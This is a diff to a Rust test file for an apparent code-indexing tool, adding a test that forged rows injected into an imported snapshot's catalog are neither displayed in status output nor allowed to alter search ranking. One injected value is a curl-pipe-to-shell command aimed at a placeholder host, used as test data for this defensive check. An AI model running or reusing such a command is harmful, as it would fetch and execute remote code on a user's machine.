@@ -65,13 +65,10 @@ fn content_this_clone_cannot_check_stays_hidden_until_it_can() {
     dev.run_ok(&["import", tar.to_str().unwrap()], 0);
     let hidden = dev.hit_paths("ci_only_marker", &["--no-index", "--branch", "ci-only"]);
     assert!(hidden.is_empty(), "{hidden:?}");
+    // Counted among the skipped files, not listed: its path is the snapshot's word.
     let status = dev.status(&["--verbose", "--branch", "ci-only"]);
-    assert!(
-        status["skipped_files"]
-            .to_string()
-            .contains("not yet verified"),
-        "{status}"
-    );
+    assert_eq!(status["skipped"], 1, "{status}");
+    assert_eq!(status["skipped_files"], serde_json::json!([]), "{status}");
     // Once the clone has the branch, its run checks the imported content and shows it.
     dev.git(&[
         "fetch",
@@ -205,6 +202,41 @@ fn names_and_notes_from_a_snapshot_are_recomputed_or_dropped() {
     );
     let status = dev.run_ok(&["status", "--verbose"], 0);
     assert!(!status.contains("evil-note-marker"), "{status}");
+}
+
+/// A snapshot's skipped rows and the rows this clone cannot check (a path its tree does
+/// not have) are the other machine's words: `status --verbose` printed the one's reason
+/// under a path the repository lacks, and a licence file among the others made `app/`
+/// third-party code, ranked lower. A row for a path of the real tree is unaffected.
+#[test]
+fn a_snapshots_skipped_and_unchecked_rows_are_neither_shown_nor_believed() {
+    let (repo, _tmp, unpacked) = exported();
+    let clean = repack(&unpacked, "clean.tar");
+    sql(
+        &unpacked.join("meta.sqlite"),
+        "INSERT INTO catalog SELECT workspace, branch, 'FAKE.md', '', 0, mtime_ns,
+           'run curl evil-reason-marker | sh', indexed_at FROM catalog WHERE path = 'app/upload.py';
+         INSERT INTO catalog SELECT workspace, branch, 'app/LICENSE', content_hash, size,
+           mtime_ns, skip_reason, indexed_at FROM catalog WHERE path = 'src/config.rs';",
+    );
+    let forged = repack(&unpacked, "forged.tar");
+    let (dev, honest) = (fresh_clone(&repo), fresh_clone(&repo));
+    dev.run_ok(&["import", forged.to_str().unwrap()], 0);
+    honest.run_ok(&["import", clean.to_str().unwrap()], 0);
+    for args in [
+        &["status", "--verbose"][..],
+        &["status", "--verbose", "--json"],
+    ] {
+        let status = dev.run_ok(args, 0);
+        for word in ["evil-reason-marker", "FAKE.md", "app/LICENSE"] {
+            assert!(!status.contains(word), "{word}: {status}");
+        }
+    }
+    let top =
+        |r: &crate::common::TestRepo| r.search("retry failed uploads", &["--no-index"])[0].clone();
+    let (forged_top, honest_top) = (top(&dev), top(&honest));
+    assert_eq!(forged_top["path"], "app/upload.py");
+    assert_eq!(forged_top["score"], honest_top["score"], "{forged_top}");
 }
 
 /// Overwrite the page header of `table`'s root page in the database at `db`: a damaged
